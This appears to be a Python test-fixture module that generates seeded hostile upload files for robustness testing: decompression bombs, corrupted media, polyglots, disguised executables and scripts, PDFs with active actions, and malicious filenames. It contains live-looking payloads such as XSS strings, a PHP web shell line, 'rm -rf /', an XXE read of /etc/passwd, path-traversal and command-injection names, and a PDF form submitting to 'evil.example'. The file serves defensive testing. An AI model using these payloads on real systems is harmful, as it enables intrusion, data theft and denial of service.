"""Files that somebody would send to do harm: 300 of them, each kind with its own small twist.

The seed of the run chooses the twists; `STEER_SEED=n` makes the same files again.
"""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

import pikepdf
from PIL import Image

from tests.files.recorded import FORMS, recording
from tests.files.test_keeping import photo

Made = tuple[str, bytes]
SCRIPT = b"<script>alert(document.cookie)</script>"
NAMES = (
    "../../../etc/cron.d/a{e}", "..\\..\\windows\\a{e}", "/etc/passwd{e}", "a\x00.php{e}",
    "in\u202egpj.exe{e}", "a" * 300 + "{e}", "\u0645\u0631\u062d\u0628\u0627{e}", ".htaccess{e}",
    "con{e}", "a;rm -rf {e}", "%2e%2e%2fa{e}", '"><img src=x onerror=alert(1)>{e}', "{e}",
    "-rf{e}", "a\r\nSet-Cookie: x=1{e}", "🦄👩‍👩‍👧{e}", "~root/.ssh/id_rsa{e}", "a/../../b{e}",
)  # fmt: skip


def noise(luck: random.Random, size: int) -> bytes:
    return luck.randbytes(size)


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png_of(width: int, height: int, body: bytes, *more: bytes) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def png_bomb(luck: random.Random) -> Made:
    side = luck.choice((7072, 20_000, 50_000, 2**31 - 1))
    return "a.png", png_of(side, side, zlib.compress(bytes(3_000_000), 9))


def png_text_bomb(luck: random.Random) -> Made:
    text = b"x\x00\x00" + zlib.compress(bytes(30_000_000), 9)
    return "a.png", png_of(
        2, 2, zlib.compress(bytes(14)), *[chunk(b"zTXt", text)] * luck.randint(1, 9)
    )


def png_cut(luck: random.Random) -> Made:
    whole = photo("PNG", place=False)
    return "a.png", whole[: luck.randint(8, len(whole) - 1)]


def jpeg_odd(luck: random.Random) -> Made:
    whole = bytearray(photo())
    for _ in range(luck.randint(1, 40)):
        whole[luck.randrange(3, len(whole))] = luck.randrange(256)
    return "a.jpg", bytes(whole)


def jpeg_place(luck: random.Random) -> Made:
    return "a.jpg", photo() + SCRIPT * luck.randint(1, 5)


def polyglot(luck: random.Random) -> Made:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as file:
        file.writestr("index.html", SCRIPT)
    head, name = luck.choice(
        ((photo("PNG", place=False), "a.png"), (photo(place=False), "a.jpg"), (plain_pdf(), "a.pdf"),
         (recording("mp4"), "a.mp4"), (recording("ogg"), "a.ogg"))
    )  # fmt: skip
    return name, head + luck.choice((packed.getvalue(), SCRIPT, b"<?php system($_GET[0]); ?>"))


def dressed_up(luck: random.Random) -> Made:
    """SVG, HTML, scripts and programs under another name."""
    body = luck.choice((
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', b"<!doctype html>" + SCRIPT,
        b"#!/bin/sh\nrm -rf /\n", b"MZ\x90\x00" + bytes(100), b"\x7fELF" + bytes(100), b"GIF89a" + SCRIPT,
        b"#EXTM3U\n#EXTINF:1\nfile:///etc/passwd\n", b"ffconcat version 1.0\nfile '/etc/passwd'\n",
        b"%!PS\n(/etc/passwd) (r) file", b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    ))  # fmt: skip
    return luck.choice(
        ("a.png", "a.jpg", "a.pdf", "a.mp4", "a.webm", "a.mp3", "a.svg", "a.html")
    ), body


def plain_pdf() -> bytes:
    made = io.BytesIO()
    with pikepdf.new() as file:
        file.add_blank_page()
        file.save(made)
    return made.getvalue()


def pdf_active(luck: random.Random) -> Made:
    made, name = io.BytesIO(), pikepdf.Name
    with pikepdf.new() as file:
        page = file.add_blank_page().obj
        action = luck.choice((
            {"S": name.JavaScript, "JS": "app.alert(1)"}, {"S": name.Launch, "F": "cmd.exe"},
            {"S": name.SubmitForm, "F": "https://evil.example"}, {"S": name.GoToR, "F": "//evil/share"},
        ))  # fmt: skip
        act = pikepdf.Dictionary(**action)
        where = luck.choice(("open", "page", "link", "attached", "xfa"))
        if where == "open":
            file.Root.OpenAction = file.make_indirect(act)
        elif where == "page":
            page.AA = pikepdf.Dictionary(O=act)
        elif where == "link":
            page.Annots = pikepdf.Array(
                [pikepdf.Dictionary(Type=name.Annot, Subtype=name.Link, A=act)]
            )
        elif where == "attached":
            file.attachments["a.exe"] = b"MZ"
        else:
            file.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.String("<x/>"))
        file.save(made)
    return "a.pdf", made.getvalue()


def pdf_bomb(luck: random.Random) -> Made:
    made = io.BytesIO()
    with pikepdf.new() as file:
        if luck.random() < 0.5:
            for _ in range(201):
                file.add_blank_page()
        else:
            file.add_blank_page().obj.Contents = file.make_stream(bytes(40_000_000))
        file.save(made, compress_streams=True, recompress_flate=True)
    return "a.pdf", made.getvalue()


def pdf_cut(luck: random.Random) -> Made:
    whole = plain_pdf()
    return "a.pdf", whole[: luck.randint(5, len(whole) - 1)] + noise(luck, luck.randint(0, 300))


def zip_bomb(luck: random.Random) -> Made:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("../../xl/workbook.xml", bytes(5_000_000))
        file.writestr("word/vbaProject.bin", b"x")
    return luck.choice(("a.xlsx", "a.zip", "a.docx", "a.pdf")), packed.getvalue()


def recording_cut(luck: random.Random) -> Made:
    form = luck.choice(sorted(FORMS))
    whole = recording(form)
    return f"a.{form.rpartition('.')[2]}", whole[: luck.randint(12, len(whole) - 1)]


def recording_odd(luck: random.Random) -> Made:
    form = luck.choice(sorted(FORMS))
    whole = bytearray(recording(form))
    for _ in range(luck.randint(1, 60)):
        whole[luck.randrange(12, len(whole))] = luck.randrange(256)
    return f"a.{form.rpartition('.')[2]}", bytes(whole)


def bad_atoms(luck: random.Random) -> Made:
    """MP4 boxes that lie about their size, or stand in each other without end."""
    head = struct.pack(">I", 24) + b"ftypmp42" + bytes(12)
    kind = luck.choice((b"moov", b"trak", b"mdat", b"udta", b"stsz", b"elst"))
    body = struct.pack(">I", luck.choice((0, 1, 7, 2**31, 2**32 - 1))) + kind
    return luck.choice(("a.mp4", "a.m4v")), head + body * luck.randint(1, 2000) + noise(luck, 64)


def heic_noise(luck: random.Random) -> Made:
    brand = luck.choice((b"heic", b"heix", b"mif1"))
    return "a.heic", struct.pack(">I", 24) + b"ftyp" + brand + bytes(12) + noise(luck, 2000)


def magic_and_noise(luck: random.Random) -> Made:
    magic, name = luck.choice((
        (b"\x1a\x45\xdf\xa3", "a.webm"), (b"OggS\x00\x02", "a.ogg"), (b"ID3\x04\x00\x00\x7f\x7f\x7f\x7f", "a.mp3"),
        (b"\xff\xd8\xff\xe0", "a.jpg"), (b"\x89PNG\r\n\x1a\n", "a.png"), (b"%PDF-1.7\n", "a.pdf"),
    ))  # fmt: skip
    return name, magic + noise(luck, luck.randint(0, 20_000))


def empty(luck: random.Random) -> Made:
    return luck.choice(("a.pdf", "a.mp4", "a.png")), b""


def wrong_name(luck: random.Random) -> Made:
    """What is fine under a name that is not."""
    ending = luck.choice((".jpg", ".exe", ".html", ".png", ".png.php", ""))
    return luck.choice(NAMES).format(e=ending), photo("PNG", place=False)


def big_picture(luck: random.Random) -> Made:
    made = io.BytesIO()
    Image.new("L", (7000, luck.choice((7000, 7200)))).save(made, "PNG")
    return "a.png", made.getvalue()


KINDS: tuple[Callable[[random.Random], Made], ...] = (
    png_bomb, png_text_bomb, png_cut, jpeg_odd, jpeg_place, polyglot, dressed_up, pdf_active,
    pdf_bomb, pdf_cut, zip_bomb, recording_cut, recording_odd, bad_atoms, heic_noise,
    magic_and_noise, empty, wrong_name, big_picture,
)  # fmt: skip


def hostile(count: int, seed: int) -> Iterator[tuple[str, str, bytes]]:
    """`count` files: the kind, the name it is sent under, and its bytes."""
    luck = random.Random(seed)
    for number in range(count):
        kind = KINDS[(number + seed) % len(KINDS)]
        name, content = kind(luck)
        if kind is not wrong_name and luck.random() < 0.4:
            name = luck.choice(NAMES).format(e=name[name.rindex(".") :])
        yield kind.__name__, name, content
